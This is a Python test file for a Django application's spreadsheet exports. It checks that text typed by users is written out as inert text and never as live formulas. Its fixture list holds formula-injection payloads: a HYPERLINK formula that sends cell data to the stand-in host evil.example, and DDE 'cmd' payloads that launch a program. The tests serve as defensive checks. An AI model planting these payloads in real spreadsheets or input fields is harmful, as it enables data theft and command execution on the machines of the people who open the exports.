"""Exports never carry a live formula: the one writer neutralises what a user typed."""

from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import Workbook, load_workbook

from anjian.core.exports import FORMULA_TRIGGERS, safe_append, xlsx_response
from anjian.core.listing import ListPage
from anjian.enterprises import services as enterprise_services
from anjian.hazards import services as hazard_services
from anjian.orgs.models import Role
from tests.factories import PASSWORD, UserFactory
from tests.hazards.conftest import hazard_data

PLANTED = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes):
    workbook = load_workbook(BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_writer_keeps_formula_text_as_text_and_numbers_as_numbers():
    rows = [[text, -5, Decimal("-12.50"), -0.5, 7] for text in PLANTED]
    response = xlsx_response(title="t", headers=["a", "b", "c", "d", "e"], rows=rows, filename="t")
    sheet = load_workbook(BytesIO(response.content)).active
    assert [c.value for c in sheet[1]] == ["a", "b", "c", "d", "e"]
    for index, text in enumerate(PLANTED, start=2):
        cell, *numbers = sheet[index]
        assert cell.data_type == "s"
        assert cell.value == text
        assert cell.quotePrefix
        assert [n.value for n in numbers] == [-5, Decimal("-12.50"), -0.5, 7]
        assert all(n.data_type == "n" for n in numbers)
    assert not [c for c in _cells(response.content) if c.data_type == "f"]


def test_every_trigger_is_covered():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def test_plain_worksheets_are_neutralised_too():
    workbook = Workbook()
    safe_append(workbook.active, ["=1+1", -3, "普通文字"])
    buffer = BytesIO()
    workbook.save(buffer)
    first, number, plain = load_workbook(BytesIO(buffer.getvalue())).active[1]
    assert (first.data_type, first.value) == ("s", "=1+1")
    assert (number.data_type, number.value) == ("n", -3)
    assert (plain.data_type, plain.value, plain.quotePrefix) == ("s", "普通文字", False)


def _list_urls():
    """Every list page in the URL configuration: each one exports with ?export=xlsx."""
    found = []

    def walk(patterns, prefix):
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern):
                view_class = getattr(p.callback, "view_class", None)
                if view_class and issubclass(view_class, ListPage) and "<" not in str(p.pattern):
                    found.append("/" + prefix + str(p.pattern))

    walk(get_resolver().url_patterns, "")
    return found


def test_the_list_pages_are_found():
    urls = _list_urls()
    assert {"/enterprises/", "/hazards/", "/accidents/", "/users/"} <= set(urls)
    assert len(urls) >= 10


@pytest.fixture
def planted(world):
    """Formulas typed by an enterprise into its own profile and by users into records."""
    formula = PLANTED[1]
    enterprise = world.building_co.enterprise
    enterprise_services.enterprise_update(
        actor=world.bureau,
        enterprise=enterprise,
        data={"principal_name": formula, "name": PLANTED[0]},
    )
    hazard_services.hazard_register(
        actor=world.township,
        enterprise=enterprise,
        data=hazard_data(place=PLANTED[4], description=PLANTED[2]),
    )
    world.bureau.full_name = PLANTED[3]
    world.bureau.save(update_fields=["full_name"])
    return world


@pytest.mark.django_db
def test_every_list_export_writes_planted_formulas_as_text(client, planted):
    admin = UserFactory(
        username="ops",
        is_superuser=True,
        role=Role.SAFETY,
        organisation=planted.bureau.organisation,
    )
    client.login(username=admin.username, password=PASSWORD)
    exported = {}
    for url in _list_urls():
        response = client.get(url, {"export": "xlsx"})
        if response.status_code != 200 or not response["Content-Type"].startswith(
            "application/vnd.openxmlformats"
        ):
            continue
        cells = list(_cells(response.content))
        assert not [c.coordinate for c in cells if c.data_type == "f"], url
        exported[url] = {c.value for c in cells if isinstance(c.value, str)}
    assert len(exported) >= 10, exported.keys()
    assert {PLANTED[0], PLANTED[1]} <= exported["/enterprises/"]
    assert {PLANTED[2], PLANTED[4]} <= exported["/hazards/"]
    assert PLANTED[3] in exported["/users/"]
